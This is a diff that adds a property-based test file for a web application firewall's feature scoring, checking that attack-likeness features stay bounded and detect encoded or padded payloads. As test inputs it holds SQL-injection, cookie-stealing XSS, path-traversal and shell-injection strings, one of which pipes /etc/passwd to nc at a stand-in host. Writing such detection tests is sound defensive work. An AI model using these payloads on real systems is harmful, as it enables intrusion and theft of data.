@@ -1,0 +1,75 @@
+import * as fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { FEATURES } from '../../../model/schema.ts';
+import { extractFeatures, setReputation } from '../../../src/edge/score/features.ts';
+import { reveal } from '../../../src/edge/score/reveal.ts';
+import { viewExample } from '../../../src/edge/waf/check-ruleset.ts';
+
+const NO_WAF = { matches: [], score: 0, blocking: false };
+const NO_BOT = { score: 0, signals: [] };
+
+function featuresOf(example: Parameters<typeof viewExample>[0]) {
+  const vector = extractFeatures(viewExample(example), NO_WAF, NO_BOT);
+  return Object.fromEntries(FEATURES.map((name, i) => [name, vector[i]!]));
+}
+
+test('every feature stays within 0 and 1, whatever comes', () => {
+  fc.assert(
+    fc.property(
+      fc.string({ unit: 'binary', maxLength: 400 }),
+      fc.string({ unit: 'binary', maxLength: 400 }),
+      fc.dictionary(fc.stringMatching(/^[a-z-]{1,12}$/), fc.string({ maxLength: 60 })),
+      fc.nat(1000),
+      fc.double({ min: 0, max: 1, noNaN: true }),
+      (path, body, headers, score, bot) => {
+        const view = viewExample({ path: `/${path}`, body, headers });
+        const features = extractFeatures(view, { ...NO_WAF, score }, { score: bot, signals: [] });
+        setReputation(features, { score: bot, signals: [] });
+        expect(features.length).toBe(FEATURES.length);
+        for (const value of features) expect(value >= 0 && value <= 1).toBe(true);
+      },
+    ),
+    { numRuns: 300 },
+  );
+});
+
+test.each([
+  ['sql_likeness', "1' union select 1,version(),3 from information_schema.tables-- "],
+  ['markup_likeness', '"><img src=x onerror=alert(document.cookie)>'],
+  ['shell_likeness', ';cat /etc/passwd|nc 203.0.113.9 4444'],
+  ['path_likeness', '../../../../../../etc/passwd'],
+])('%s knows its attack from a plain word', (name, payload) => {
+  const attack = featuresOf({ path: `/search?q=${encodeURIComponent(payload)}` })[name]!;
+  const plain = featuresOf({ path: '/search?q=red+shoes' })[name]!;
+  expect(attack).toBeGreaterThan(plain + 0.3);
+});
+
+test('an attack reads the same under further encodings, and the layers are told', () => {
+  const payload = '"><script>alert(1)</script>';
+  const twice = encodeURIComponent(encodeURIComponent(payload));
+  const plain = featuresOf({ path: `/?q=${encodeURIComponent(payload)}` });
+  const hidden = featuresOf({ path: `/?q=${twice}` });
+  expect(hidden['markup_likeness']).toBe(plain['markup_likeness']);
+  expect(hidden['encoding_depth']).toBeGreaterThan(plain['encoding_depth']!);
+});
+
+test('an attack at the end of a long text is found as in a short one', () => {
+  const payload = '<script>alert(document.cookie)</script>';
+  const long = `${'The quick brown fox likes honest prose. '.repeat(1500)}${payload}`;
+  const found = featuresOf({
+    body: `text=${encodeURIComponent(long)}`,
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+  });
+  expect(found['markup_likeness']).toBeGreaterThan(0.5);
+});
+
+test('revealing never throws and ends after a bounded number of layers', () => {
+  fc.assert(
+    fc.property(
+      fc.string({ unit: fc.constantFrom('%', '2', '5', 'u', '&', '#', 'x', ';', '\\', '0', '\xc0', 'a', '+') }),
+      (text) => {
+        expect(reveal(text).layers).toBeLessThanOrEqual(5);
+      },
+    ),
+  );
+});
